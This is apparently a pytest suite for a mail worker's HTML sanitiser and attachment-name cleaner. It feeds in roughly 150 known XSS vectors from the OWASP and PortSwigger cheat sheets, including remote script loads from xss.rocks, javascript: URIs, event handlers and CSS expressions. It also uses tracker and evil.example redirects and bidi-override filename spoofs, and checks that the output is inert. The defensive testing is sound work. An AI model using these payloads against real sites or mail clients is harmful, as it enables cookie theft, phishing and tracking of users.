"""The html sanitiser and the display names: known XSS vectors in, parsed output checked."""

from __future__ import annotations

import contextlib
import email
import email.policy
import re
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import time

from worker.mail.sanitize import (
    MAX_DISPLAY_CHARS,
    MAX_HTML_CHARS,
    MAX_HTML_TAGS,
    display_name,
    sanitize_html,
    visible_line,
)

# XSS vectors, taken from the OWASP XSS Filter Evasion Cheat Sheet
# (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html) ...
OWASP = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    '&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083'
    '&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;"
    "&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"
    "&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53"
    "&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    '<IMG SRC=java\0script:alert("XSS")>',
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<IMG SRC="livescript:[code]">',
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070"
    "\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv'
    'MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw'
    'IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml"'
    ' AllowScriptAccess="always"></EMBED>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>'
    '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t"'
    ' implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)'
    '</SCRIPT>"></BODY></HTML>',
    '<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>',
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'\"-->",
    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    '<IMG SRC="http://www.thesiteyouareon.com/somecommand.php?somevariables=maliciouscode">',
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>'
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT a=">" \'\' SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT a=">\'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    '<A HREF="http://66.102.7.147/">XSS</A>',
]
# ... and from PortSwigger's Cross-site scripting cheat sheet
# (https://portswigger.net/web-security/cross-site-scripting/cheat-sheet): event handlers on
# modern elements, mutation XSS (parser differentials), and protocols.
PORTSWIGGER = [
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">click</maction></math>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<object data="javascript:alert(1)">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<marquee onstart=alert(1)>x</marquee>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style><img src=x onerror=alert(1)></style>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<body onpageshow=alert(1)>",
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<xss onafterscriptexecute=alert(1)><script>1</script>',
    "<dialog open onclose=alert(1)>x</dialog>",
    '<div popover id=x onbeforetoggle=alert(1)>x</div>',
    "<template><script>alert(1)</script></template>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
]
# Remote content and layout attacks on our block: nothing loads, nothing moves.
REMOTE_AND_LAYOUT = [
    '<img src="https://tracker.example/pixel.gif?id=42" width=1 height=1>',
    '<img srcset="https://tracker.example/a.png 1x">',
    "<picture><source srcset=https://tracker.example/x.png><img></picture>",
    "<video poster=https://tracker.example/x.png></video>",
    '<table background="https://tracker.example/x.png"><tr><td background="https://tracker.example/y.png">x',
    '<div style="background:url(https://tracker.example/x.png)">x</div>',
    "<div style=\"background-image:image-set('https://tracker.example/x.png' 1x)\">x</div>",
    '<div style="list-style-image:url(https://tracker.example/x.png)">x</div>',
    "<style>@import url(https://tracker.example/x.css)</style>",
    '<link rel="stylesheet" href="https://tracker.example/x.css">',
    "<svg><image href=https://tracker.example/x.png /></svg>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">fake</div>',
    '<div style="position:absolute;top:-200px">fake</div>',
    '<div style="margin-top:-500px">fake</div>',
    '<div style="transform:translateY(-500px)">fake</div>',
    '<div style="display:none">hidden</div>',
    '<div style="color:red;posi\\tion:fixed">x</div>',
    '<div style="width:var(--x);height:attr(data-h px);color:red">x</div>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name=password></form>',
    '<a href="/relative/path">r</a><a href="#top">t</a><a href="//evil.example/">p</a>',
]
VECTORS = OWASP + PORTSWIGGER + REMOTE_AND_LAYOUT

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
    "select", "textarea", "meta", "base", "link", "svg", "math", "img", "image", "video", "audio", "source",
    "picture", "template", "noscript", "bgsound", "xml", "marquee", "details", "dialog", "keygen", "body", "html",
    "head", "title", "xmp", "plaintext",
}  # fmt: skip
URL_ATTRIBUTES = {"src", "srcset", "background", "poster", "action", "formaction", "xlink:href", "data", "dynsrc",
                  "lowsrc", "srcdoc", "cite", "longdesc", "usemap", "ping"}
SAFE_HREF = ("http://", "https://", "mailto:")
BAD_SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:")
BAD_STYLE = ("url(", "expression", "position", "display", "behavior", "binding", "import", "image", "\\", "margin",
             "transform", "var(", "attr(")
VOID = {"br", "hr", "col", "img", "wbr", "area", "embed", "input", "link", "meta", "source", "track", "base"}


class Parsed(HTMLParser):
    """What html.parser makes of the output: tags with attributes, anything that is not text or
    elements, and whether every element is closed in order."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.other: list[str] = []
        self.stack: list[str] = []
        self.misnested: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_endtag(self, tag: str) -> None:
        if not self.stack or self.stack.pop() != tag:
            self.misnested.append(tag)

    def handle_comment(self, data: str) -> None:
        self.other.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.other.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.other.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.other.append(f"unknown declaration {data!r}")


def squeeze(value: str) -> str:
    """A URL as a browser reads its scheme: controls and whitespace anywhere in it do not count."""
    return "".join(c for c in value.lower() if c.isprintable() and not c.isspace())


def assert_inert(output: str | None) -> Parsed:
    assert output is not None
    parsed = Parsed(output)
    assert parsed.other == []
    assert parsed.stack == [] and parsed.misnested == [], "the output is not balanced"
    assert "<script" not in output.lower()
    for tag, attrs in parsed.tags:
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in URL_ATTRIBUTES, (tag, name)
            assert name not in ("id", "class", "name", "dir"), (tag, name)
            assert not any(scheme in squeeze(value) for scheme in BAD_SCHEMES), (tag, name, value)
            if name == "href":
                assert tag == "a" and squeeze(value).startswith(SAFE_HREF), value
                assert attrs.get("rel") == "noopener noreferrer"
            if name == "style":
                assert not any(bad in value.lower() for bad in BAD_STYLE), value
    return parsed


def test_there_are_enough_vectors_and_the_checks_catch_them_unsanitised() -> None:
    assert len(VECTORS) >= 100 and len(set(VECTORS)) == len(VECTORS)
    caught = 0
    for vector in VECTORS:
        try:
            assert_inert(vector)
        except AssertionError:
            caught += 1
    assert caught >= len(VECTORS) - 5  # the few left are only text to html.parser (e.g. "<? ... ?>" aside)


@pytest.mark.parametrize("vector", VECTORS)
def test_known_xss_vectors_come_out_inert(vector: str) -> None:
    assert_inert(sanitize_html(vector))
    # The same inside a document, after text and inside a table cell.
    assert_inert(sanitize_html(f"<html><head><title>t</title></head><body><p>before</p>{vector}</body></html>"))
    assert_inert(sanitize_html(f"<table><tr><td>{vector}</td></tr></table>"))


def test_safe_formatting_links_and_tables_survive() -> None:
    original = (
        '<p style="color:#c00;font-weight:bold;position:fixed">Alarm</p>'
        '<a href="https://plant.example/pump/2" target="_blank" onclick="x()">Pump 2</a>'
        '<a href="mailto:ops@example.com">ops</a>'
        '<table border="1" cellpadding="4"><tr><th colspan="2">Reading</th></tr>'
        "<tr><td>speed</td><td>12 mm/s</td></tr></table><ul><li>one</li></ul>"
    )
    out = sanitize_html(original)
    assert out is not None
    assert '<p style="color:#c00;font-weight:bold">Alarm</p>' in out
    assert '<a href="https://plant.example/pump/2" rel="noopener noreferrer">Pump 2</a>' in out
    assert '<a href="mailto:ops@example.com" rel="noopener noreferrer">ops</a>' in out
    assert '<th colspan="2">Reading</th>' in out and "<td>12 mm/s</td>" in out and "<li>one</li>" in out
    assert_inert(out)


def test_images_become_visible_notes() -> None:
    out = sanitize_html(
        '<p>Snapshot: <img src="https://tracker.example/p.gif?u=1" alt="gate 3 &lt;camera&gt;"></p>'
        '<img src="cid:snap@x" alt="inline"><img src="data:image/png;base64,iVBORw0KGgo="><img\nsrc="http://x/y">'
    )
    assert out == (
        "<p>Snapshot: [remote image removed: gate 3 &lt;camera&gt;]</p>"
        "[image removed: inline][image removed][remote image removed]"
    )
    assert_inert(out)


def test_an_image_note_is_one_bounded_visible_line() -> None:
    out = sanitize_html('<img src="https://t.example/x" alt="a\u202e\nb' + "c" * 500 + '">')
    assert out is not None
    assert "\u202e" not in out and "\n" not in out and len(out) < 150


# Originals that try to close, escape or hide the element we put them in.
ESCAPES = [
    '<div style="display:none">',
    "<div><div><div>",
    "</div></div></div></body></html><p>after",
    "<table><tr><td>cell",
    "<table><div>moved out of the table</div>",
    "<plaintext>",
    "<xmp>",
    "<noscript>",
    "<template>",
    "<!--",
    "<![CDATA[",
    "<textarea>",
    "<title>",
    "<style>",
    "<select><option>",
    '<a href="https://x.example">',
    "<p><b><i>",
    "<ul><li>",
    "<pre>",
    "<svg><foreignObject><div>",
    "<math><mtext>",
    '<font color="red">',
]


@pytest.mark.parametrize("escape", ESCAPES)
def test_the_output_is_balanced_whatever_the_original_leaves_open(escape: str) -> None:
    out = sanitize_html(f"{escape}<p>text</p>{escape}")
    assert_inert(out)
    assert out is not None
    # Put inside an element, the output ends inside it: the element's end tag closes it.
    wrapped = Parsed(f'<div id="ours">{out}</div><p>after</p>')
    assert wrapped.stack == [] and wrapped.misnested == []


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(ESCAPES + VECTORS + ["</div>", "</td>", "</table>", "<br>", "x", " ", "&", "<"]),
                max_size=12).map("".join))
def test_any_mix_of_the_above_comes_out_balanced_and_inert(original: str) -> None:
    assert_inert(sanitize_html(original))


def test_markup_beyond_the_limits_is_not_given_to_the_sanitiser() -> None:
    assert sanitize_html("<div>" * 200_000) is None  # 1 MB that took nh3 164 s of CPU
    assert sanitize_html("<" * (MAX_HTML_TAGS + 1)) is None
    assert sanitize_html("x" * (MAX_HTML_CHARS + 1)) is None
    assert sanitize_html("<b>x</b>" * (MAX_HTML_TAGS // 2)) is not None
    assert sanitize_html("x" * MAX_HTML_CHARS) is not None


def cpu(html: str) -> float:
    best = float("inf")
    for _ in range(3):
        start = time.process_time()
        sanitize_html(html)
        best = min(best, time.process_time() - start)
    return best


def fill(piece: str) -> str:
    """As many pieces as fit within both limits."""
    n = min(MAX_HTML_CHARS // len(piece), MAX_HTML_TAGS // max(piece.count("<"), 1))
    return piece * n


def realworld_html() -> str:
    """The html bodies of tests/data/realworld/, concatenated and cut to the limits."""
    bodies = []
    for path in sorted((Path(__file__).parents[2] / "data" / "realworld").rglob("*.eml")):
        msg = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        body = msg.get_body(("html",)) if isinstance(msg, EmailMessage) else None
        with contextlib.suppress(LookupError, ValueError):
            bodies.append(str(body.get_content()) if body is not None else "")
    html = "\n".join(bodies)[:MAX_HTML_CHARS]
    return "<".join(html.split("<")[: MAX_HTML_TAGS + 1])


def test_the_worst_inputs_within_the_limits_cost_a_few_times_a_normal_one() -> None:
    real = realworld_html()
    assert len(real) > MAX_HTML_CHARS // 2 and real.count("<") > 500
    normal = cpu(real)
    distinct = [f"a{i}" for i in range(MAX_HTML_CHARS // 8)]
    worst = {
        "nested": fill("<div>"),
        "formatting rebuilt": "".join(f"<b title={i}>" for i in range(MAX_HTML_TAGS // 2)) + "<p>x" * (MAX_HTML_TAGS // 2),
        "attributes": ("<b " + " ".join(distinct))[: MAX_HTML_CHARS - 1] + ">",
    }
    for name, html in worst.items():
        assert sanitize_html(html) is not None, name
        # Measured: at most 2.5x; 200,000 nested <div> (without the limits) cost 164 s, 17,000x.
        assert cpu(html) < 5 * normal, name


def test_display_names_lose_bidi_controls_and_line_breaks() -> None:
    assert display_name("report\u202efdp.exe") == "reportfdp.exe"
    for mark in ("\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u2066", "\u2067", "\u2068",
                 "\u2069", "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\U000e0041"):
        assert display_name(f"a{mark}b.pdf") == "ab.pdf", hex(ord(mark))
    for brk in ("\r\n", "\n", "\r", "\t", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"):
        assert display_name(f"a{brk}b.pdf") == "a b.pdf", repr(brk)
    for control in ("\x00", "\x07", "\x1b", "\x7f", "\x9b"):
        assert display_name(f"a{control}b.pdf") == "ab.pdf", repr(control)
    assert display_name("a\u3164\u115f\u034fb.pdf") == "ab.pdf"


def test_display_names_keep_what_a_name_legitimately_has() -> None:
    for name in ("Prüfbericht Nr. 3 (final).pdf", "報告書.csv", "отчёт.xlsx", "تقرير.pdf", "😀 snapshot.jpg",
                 "Tiếng Việt.txt", "ह्रस्व.txt", "a&b <c>.html"):
        assert display_name(name) == name
    assert display_name("Fa\u0308llig.pdf") == "Fällig.pdf"  # NFD (macOS) as NFC
    assert display_name("") == display_name("\u202e\u200b") == "attachment"


def test_padding_cannot_push_the_extension_out_of_sight() -> None:
    for pad in (" ", "\u00a0", "\u3000", "\u2800", "\u2003", "\u200b"):
        assert display_name(f"invoice.pdf{pad * 300}.exe") in ("invoice.pdf .exe", "invoice.pdf.exe")
    long = display_name("invoice.pdf" + "_" * 500 + ".exe")
    assert len(long) == MAX_DISPLAY_CHARS and long.endswith("_.exe") and "…" in long


def test_a_stack_of_combining_marks_is_cut() -> None:
    assert visible_line("Z" + "\u0301" * 200 + "a", 50) == "\u0179\u0301\u0301\u0301a"  # NFC: Ź and three more
    assert visible_line("e\u0301", 50) == "é"


@given(st.text(max_size=400))
def test_a_display_name_is_always_one_bounded_line_without_format_characters(name: str) -> None:
    shown = display_name(name)
    assert 0 < len(shown) <= MAX_DISPLAY_CHARS
    assert shown == shown.strip() and "  " not in shown
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]", shown)
    assert shown.isprintable()
